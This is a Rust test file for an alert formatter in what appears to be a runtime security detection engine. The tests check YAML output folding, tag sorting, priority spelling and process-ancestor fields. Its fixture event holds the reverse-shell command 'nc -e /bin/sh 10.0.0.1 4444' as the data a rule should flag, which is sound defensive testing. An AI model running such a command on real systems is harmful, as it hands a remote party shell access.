//! Tests of whole alerts of whole rules.

use metadata::ContainerState;
use outputs::{AlertFormat, AlertOptions, AlertScratch};
use serde_json::{Value, json};

use super::{container, netcat, rules, with_context};

/// The alert of a rule with those keys on an exec of `netcat`.
fn alert(keys: &str) -> Value {
    let set = rules(&format!(
        "- rule: r\n  desc: d\n  condition: evt.type = execve\n{keys}"
    ));
    let rule = &set.rules()[0];
    let container = container();
    with_context(&netcat(), ContainerState::Known(&container), |context| {
        let mut out = Vec::new();
        let format = AlertFormat::new(rule, AlertOptions::default(), context.hostname);
        format.write(rule, context, &mut AlertScratch::default(), &mut out);
        serde_json::from_slice(&out).unwrap()
    })
}

fn output(keys: &str) -> String {
    let alert = alert(keys);
    let text = alert["output"].as_str().unwrap();
    text.split_once(": Debug ").unwrap().1.to_owned()
}

#[test]
fn a_folded_output_has_no_newline_at_its_end() {
    for keys in [
        "  output: >\n    a\n    %proc.name\n  priority: DEBUG\n",
        "  output: >+\n    a\n    %proc.name\n\n\n  priority: DEBUG\n",
        "  output: |\n    a %proc.name\n  priority: DEBUG\n",
        "  output: >-\n    a %proc.name\n  priority: DEBUG\n",
    ] {
        assert_eq!(output(keys), "a nc", "{keys}");
    }
}

#[test]
fn tags_are_sorted_and_distinct() {
    let tags = alert("  output: o\n  priority: DEBUG\n  tags: [z, T1059, a, z, mitre_execution]\n");
    assert_eq!(tags["tags"], json!(["T1059", "a", "mitre_execution", "z"]));
    let none = alert("  output: o\n  priority: DEBUG\n");
    assert_eq!(none["tags"], json!([]));
}

#[test]
fn a_priority_is_printed_in_one_spelling_however_it_is_written() {
    for (written, printed) in [
        ("WARNING", "Warning"),
        ("info", "Informational"),
        ("Informational", "Informational"),
        ("eMeRgEnCy", "Emergency"),
    ] {
        let alert = alert(&format!("  output: o\n  priority: {written}\n"));
        assert_eq!(alert["priority"], printed);
    }
}

#[test]
fn ancestors_without_index_are_one_text_nearest_first() {
    let keys = "  output: '%proc.aname|%proc.apid|%proc.aname[2]|%proc.argv'\n  priority: DEBUG\n";
    let fields = &alert(keys)["output_fields"];
    assert_eq!(fields["proc.aname"], "bash systemd");
    assert_eq!(fields["proc.apid"], 1000);
    assert_eq!(fields["proc.aname[2]"], "systemd");
    let argv = json!(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
    assert_eq!(fields["proc.argv"], argv, "a field of our own is an array");
    assert_eq!(
        output(keys),
        "bash systemd|1000|systemd|nc -e /bin/sh 10.0.0.1 4444"
    );
}

#[test]
fn unknown_facts_of_ancestors_are_null() {
    let keys = "  output: '%proc.aexe %proc.aname[9] %fd.name'\n  priority: DEBUG\n";
    let fields = &alert(keys)["output_fields"];
    for key in ["proc.aexe", "proc.aname[9]", "fd.name"] {
        assert_eq!(fields[key], Value::Null, "{key}");
    }
}
